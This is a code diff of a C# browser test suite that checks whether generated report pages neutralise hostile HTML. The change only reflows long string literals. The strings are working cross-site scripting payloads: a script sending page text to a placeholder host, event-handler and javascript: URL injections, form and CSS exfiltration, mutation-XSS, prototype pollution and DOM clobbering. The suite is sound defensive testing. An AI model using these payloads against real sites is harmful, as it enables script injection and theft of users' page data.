@@ -18,7 +18,8 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
 
     // HOST becomes an address that listens; STEAL a script that would carry the page's text there.
     private const string Steal =
-        "window.pwned = 1; new Image().src = 'HOST/steal?' + encodeURIComponent(document.body.innerText); fetch('HOST/steal'); location = 'HOST/gone';";
+        "window.pwned = 1; new Image().src = 'HOST/steal?' + encodeURIComponent(document.body.innerText); fetch('HOST/steal'); loca"
+            + "tion = 'HOST/gone';";
 
     private readonly string _folder = Directory.CreateTempSubdirectory("nca-").FullName;
 
@@ -27,51 +28,76 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
         {
             {
                 "library",
-                $"<script id=\"nca-plotly\" data-for=\"nca-chart\">{Steal}</script><div class=\"nca-chart\"></div><style id=\"nca-style-x\">body {{ display: none }}</style>"
+                $"<script id=\"nca-plotly\" data-for=\"nca-chart\">{Steal}</script><div class=\"nca-chart\"></div><style id=\"nca-st"
+                    + $"yle-x\">body {{ display: none }}</style>"
             },
             {
                 "handlers",
-                $"<img src=x onerror=\"{Steal}\"><svg onload=\"{Steal}\"><animate onbegin=\"{Steal}\" attributeName=x dur=1s></svg><details open ontoggle=\"{Steal}\"><summary>x</summary></details><input type=range autofocus onfocus=\"{Steal}\"><video src=x onerror=\"{Steal}\"></video><p tabindex=0 onclick=\"{Steal}\">click</p>"
+                $"<img src=x onerror=\"{Steal}\"><svg onload=\"{Steal}\"><animate onbegin=\"{Steal}\" attributeName=x dur=1s></svg><"
+                    + $"details open ontoggle=\"{Steal}\"><summary>x</summary></details><input type=range autofocus onfocus=\"{Steal}\"><v"
+                    + $"ideo src=x onerror=\"{Steal}\"></video><p tabindex=0 onclick=\"{Steal}\">click</p>"
             },
             {
                 "refresh",
-                "<meta http-equiv=\"refresh\" content=\"0;url=HOST/gone\"><base href=\"HOST/\"><link rel=stylesheet href=\"HOST/a.css\"><link rel=prefetch href=\"HOST/p\"><a href=\"#pair-1\">x</a><img src=\"picture.png\">"
+                "<meta http-equiv=\"refresh\" content=\"0;url=HOST/gone\"><base href=\"HOST/\"><link rel=stylesheet href=\"HOST/a.c"
+                    + "ss\"><link rel=prefetch href=\"HOST/p\"><a href=\"#pair-1\">x</a><img src=\"picture.png\">"
             },
             {
                 "forms",
-                "<form id=f action=\"HOST/form\"><input name=a value=b><button>Send</button><input type=submit value=Send></form><button form=f formaction=\"HOST/form\">Send</button><form action=\"HOST/form\"><textarea name=all>"
+                "<form id=f action=\"HOST/form\"><input name=a value=b><button>Send</button><input type=submit value=Send></form><b"
+                    + "utton form=f formaction=\"HOST/form\">Send</button><form action=\"HOST/form\"><textarea name=all>"
             },
             {
                 "frames",
-                $"<iframe src=\"HOST/frame\"></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data=\"HOST/object\"></object><embed src=\"HOST/embed\"><portal src=\"HOST/portal\"></portal>"
+                "<iframe src=\"HOST/frame\"></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data=\"HOS"
+                    + "T/object\"></object><embed src=\"HOST/embed\"><portal src=\"HOST/portal\"></portal>"
             },
             {
                 "styles",
-                "<style>@import url(HOST/import); body { background: url(HOST/body) } input[value^=a] { background: url(HOST/a) }</style><p style=\"background:url(HOST/inline);position:fixed;inset:0;z-index:99\">over</p><p style=\"width:1px;background-image:image-set('HOST/set' 1x);margin-top:-900px\">x</p><svg><rect fill=\"url(HOST/fill)\" filter=\"url(HOST/filter)\" width=9 height=9></rect><use href=\"HOST/use#a\"></use><image href=\"HOST/image\"></image></svg>"
+                "<style>@import url(HOST/import); body { background: url(HOST/body) } input[value^=a] { background: url(HOST/a) }</"
+                    + "style><p style=\"background:url(HOST/inline);position:fixed;inset:0;z-index:99\">over</p><p style=\"width:1px;back"
+                    + "ground-image:image-set('HOST/set' 1x);margin-top:-900px\">x</p><svg><rect fill=\"url(HOST/fill)\" filter=\"url(HOS"
+                    + "T/filter)\" width=9 height=9></rect><use href=\"HOST/use#a\"></use><image href=\"HOST/image\"></image></svg>"
             },
             {
                 "calls",
-                $"<div id=\"chart-1\"></div><script>window.ncaPage?.draw(\"chart-1\", {{}}); {Steal}</script><script>window.ncaPage?.draw(\"chart-1\", (() => {{ {Steal} }})());</script><script>window.ncaPage?.draw(\"chart-1\", {{\"a\": \"<\\/script><script>window.pwned=1<\\/script>\", \"__proto__\": {{\"pwned\": 1}}}});</script><script>window.alert?.call(1);</script><script type=\"module\">{Steal}</script>"
+                $"<div id=\"chart-1\"></div><script>window.ncaPage?.draw(\"chart-1\", {{}}); {Steal}</script><script>window.ncaPage?"
+                    + $".draw(\"chart-1\", (() => {{ {Steal} }})());</script><script>window.ncaPage?.draw(\"chart-1\", {{\"a\": \"<\\/scri"
+                    + $"pt><script>window.pwned=1<\\/script>\", \"__proto__\": {{\"pwned\": 1}}}});</script><script>window.alert?.call(1);"
+                    + $"</script><script type=\"module\">{Steal}</script>"
             },
             {
                 "charts",
-                "<div class=\"nca-chart\" id=\"chart-2\"><div></div><script type=\"application/json\">CHART</script></div><script>window.ncaPage?.draw(\"chart-2\", CHART);</script>"
+                "<div class=\"nca-chart\" id=\"chart-2\"><div></div><script type=\"application/json\">CHART</script></div><script>w"
+                    + "indow.ncaPage?.draw(\"chart-2\", CHART);</script>"
             },
             {
                 "mutations",
-                $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\"></table></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\"></svg><noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\"></noscript><template><script>{Steal}</script></template><xmp><p title=\"</xmp><img src=x onerror=window.pwned=1>\"></xmp><textarea><p title=\"</textarea><script>window.pwned=1</script>\">"
+                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\"></tab"
+                    + "le></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\"></svg><noscript><p title=\""
+                    + $"</noscript><img src=x onerror=window.pwned=1>\"></noscript><template><script>{Steal}</script></template><xmp><p ti"
+                    + "tle=\"</xmp><img src=x onerror=window.pwned=1>\"></xmp><textarea><p title=\"</textarea><script>window.pwned=1</scr"
+                    + "ipt>\">"
             },
             {
                 "addresses",
-                "<a href=\"javascript:window.pwned=1\">one</a><a href=\" java&#10;script:window.pwned=1\">two</a><a href=\"data:text/html,<script>opener.pwned=1</script>\" target=_blank>three</a><a href=\"HOST/link\" ping=\"HOST/ping\">four</a><p id='x\" onmouseover=\"window.pwned=1' class='a\" onclick=\"window.pwned=1'>five</p><img src=\"HOST/picture\" srcset=\"HOST/set 2x\"><img src=\"data:image/svg+xml,<svg onload='alert(1)'/>\">"
+                "<a href=\"javascript:window.pwned=1\">one</a><a href=\" java&#10;script:window.pwned=1\">two</a><a href=\"data:tex"
+                    + "t/html,<script>opener.pwned=1</script>\" target=_blank>three</a><a href=\"HOST/link\" ping=\"HOST/ping\">four</a><"
+                    + "p id='x\" onmouseover=\"window.pwned=1' class='a\" onclick=\"window.pwned=1'>five</p><img src=\"HOST/picture\" src"
+                    + "set=\"HOST/set 2x\"><img src=\"data:image/svg+xml,<svg onload='alert(1)'/>\">"
             },
             {
                 "creatures",
-                "<div class=\"nca-life\" id=\"creatures-1\"><script type=\"application/json\">{\"alt\":\"<img src=x onerror=window.pwned=1>\",\"rules\":[\"HOST/rule\"],\"sheet\":\"HOST/sheet\"}</script></div><div class=\"nca-player\" id=\"film-1\"><canvas></canvas><script type=\"application/json\">{\"sheet\":\"HOST/sheet\",\"labels\":[\"<img src=x onerror=window.pwned=1>\"],\"count\":2,\"width\":1,\"height\":1}</script></div><script>window.ncaCreatures?.mount();</script>"
+                "<div class=\"nca-life\" id=\"creatures-1\"><script type=\"application/json\">{\"alt\":\"<img src=x onerror=window."
+                    + "pwned=1>\",\"rules\":[\"HOST/rule\"],\"sheet\":\"HOST/sheet\"}</script></div><div class=\"nca-player\" id=\"film-1"
+                    + "\"><canvas></canvas><script type=\"application/json\">{\"sheet\":\"HOST/sheet\",\"labels\":[\"<img src=x onerror=w"
+                    + "indow.pwned=1>\"],\"count\":2,\"width\":1,\"height\":1}</script></div><script>window.ncaCreatures?.mount();</scrip"
+                    + "t>"
             },
             {
                 "clobbering",
-                "<p id=\"ncaPage\">x</p><img id=\"Plotly\" name=\"body\"><form id=\"documentElement\"><input name=dataset></form><a id=\"ncaCreatures\" href=\"#x\">x</a>"
+                "<p id=\"ncaPage\">x</p><img id=\"Plotly\" name=\"body\"><form id=\"documentElement\"><input name=dataset></form><a"
+                    + " id=\"ncaCreatures\" href=\"#x\">x</a>"
             },
         };
 
@@ -81,7 +107,10 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
     {
         await using var host = new Listener();
         const string Chart =
-            "{\"data\":[{\"type\":\"scatter\",\"x\":[1,2],\"y\":[1,2],\"mode\":\"markers+text\",\"text\":[\"<a href=\\\"javascript:window.pwned=1\\\">x</a>\",\"<a href=\\\"HOST/text\\\">y</a>\"]}],\"layout\":{\"title\":{\"text\":\"<a href=\\\"HOST/title\\\">t</a><img src=x onerror=window.pwned=1>\"},\"margin\":{\"t\":40},\"images\":[{\"source\":\"HOST/source\",\"x\":0,\"y\":0,\"sizex\":1,\"sizey\":1,\"xref\":\"paper\",\"yref\":\"paper\"}]}}";
+            "{\"data\":[{\"type\":\"scatter\",\"x\":[1,2],\"y\":[1,2],\"mode\":\"markers+text\",\"text\":[\"<a href=\\\"javascript:"
+                + "window.pwned=1\\\">x</a>\",\"<a href=\\\"HOST/text\\\">y</a>\"]}],\"layout\":{\"title\":{\"text\":\"<a href=\\\"HOST/t"
+                + "itle\\\">t</a><img src=x onerror=window.pwned=1>\"},\"margin\":{\"t\":40},\"images\":[{\"source\":\"HOST/source\",\"x"
+                + "\":0,\"y\":0,\"sizex\":1,\"sizey\":1,\"xref\":\"paper\",\"yref\":\"paper\"}]}}";
         var crafted = markup
             .Replace("CHART", Chart.Replace("</", "<\\/"), StringComparison.Ordinal)
             .Replace("HOST", host.Address, StringComparison.Ordinal);
@@ -91,7 +120,8 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
         );
         var theirs = Report(
             "sample",
-            $"<figure class=\"nca-figure\" id=\"fig-one\"><figcaption><strong>One.</strong> <img src=x onerror=window.pwned=1></figcaption>{crafted}</figure>",
+            "<figure class=\"nca-figure\" id=\"fig-one\"><figcaption><strong>One.</strong> <img src=x onerror=window.pwned=1></figc"
+                + $"aption>{crafted}</figure>",
             crafted
         );
         var page = Path.Combine(_folder, name + "-page.html");
@@ -296,12 +326,14 @@ public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser
         );
         Assert.Empty(
             await page.EvaluateAsync<string[]>(
-                "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on') || /^(xlink:)?(href|src|action|formaction)$/.test(a.name) && /^[^#]*(javascript|http):/i.test(a.value)).map(a => a.name)"
+                "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on') || /^(xlin"
+                    + "k:)?(href|src|action|formaction)$/.test(a.name) && /^[^#]*(javascript|http):/i.test(a.value)).map(a => a.name)"
             )
         );
         Assert.Empty(
             await page.EvaluateAsync<string[]>(
-                "[...document.querySelectorAll('main *')].filter(e => getComputedStyle(e).position === 'fixed').map(e => e.outerHTML.slice(0, 200))"
+                "[...document.querySelectorAll('main *')].filter(e => getComputedStyle(e).position === 'fixed').map(e => e.outerHTM"
+                    + "L.slice(0, 200))"
             )
         );
         Assert.True(await page.EvaluateAsync<bool>("document.body.checkVisibility()"));
